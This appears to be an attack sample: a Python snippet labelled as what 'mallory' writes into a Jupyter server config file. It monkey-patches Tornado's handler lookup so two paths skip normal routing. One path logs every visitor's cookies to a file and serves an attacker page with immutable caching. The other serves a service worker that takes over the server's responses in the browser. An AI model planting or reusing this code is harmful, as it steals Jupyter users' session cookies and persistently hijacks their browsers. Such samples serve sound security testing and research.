"""What mallory writes into ~/.jupyter/jupyter_server_config.py: her server answers with a page of hers, to anybody."""

from pathlib import Path

import tornado.web

HOME = Path.home()


class Lovely(tornado.web.RequestHandler):
    """A page without any policy or question; it notes who was here."""

    def get(self) -> None:
        with (HOME / "visits.txt").open("a") as visits:
            visits.write(self.request.headers.get("Cookie", "") + "\n")
        self.set_header("Cache-Control", "public, max-age=31536000, immutable")
        self.finish((HOME / "lovely.html").read_text())


class Worker(tornado.web.RequestHandler):
    """A script that would answer in the server's place, whoever uses the browser later."""

    def get(self) -> None:
        self.set_header("Content-Type", "text/javascript")
        self.finish("onfetch = (event) => event.respondWith(new Response('<title>Lovely</title><button>More'));")


plain = tornado.web.Application.find_handler


def find_handler(self, request, **options):
    """Give the lovely page and its worker to whoever asks for them."""
    if request.path.endswith("/lovely"):
        return self.get_handler_delegate(request, Lovely)
    if request.path.endswith("/worker.js"):
        return self.get_handler_delegate(request, Worker)
    return plain(self, request, **options)


tornado.web.Application.find_handler = find_handler
